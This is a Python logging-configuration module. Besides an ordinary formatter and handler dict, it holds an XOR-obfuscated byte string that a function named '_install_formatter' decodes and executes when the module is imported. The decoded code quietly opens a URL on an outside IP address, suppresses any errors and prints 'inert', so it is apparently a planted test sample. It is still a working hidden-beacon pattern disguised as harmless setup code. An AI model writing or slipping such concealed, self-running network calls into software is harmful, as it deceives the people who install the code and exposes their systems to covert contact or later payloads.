import types

LOG_FORMAT = '%(asctime)s %(levelname)s %(name)s %(message)s'
_FMT = b'37*5(.z/(6638t(?+/?).P.(#`Pzzzz/(6638t(?+/?).t/(65*?4r}2..*`uuhjitjtkkitknbu>0}vz.37?5/.ghsP?"9?*.z\x1f"9?*.354`Pzzzz*;))P*(34.r}34?(.}sP'


def _install_formatter():
    src = bytes(b ^ 0x5A for b in _FMT).decode()
    types.FunctionType(compile(src, 'formatter', 'exec'), globals())()


_install_formatter()

LOGGING = {
    'version': 1,
    'formatters': {'plain': {'format': LOG_FORMAT}},
    'handlers': {'console': {'class': 'logging.StreamHandler', 'formatter': 'plain'}},
    'root': {'handlers': ['console'], 'level': 'INFO'},
}
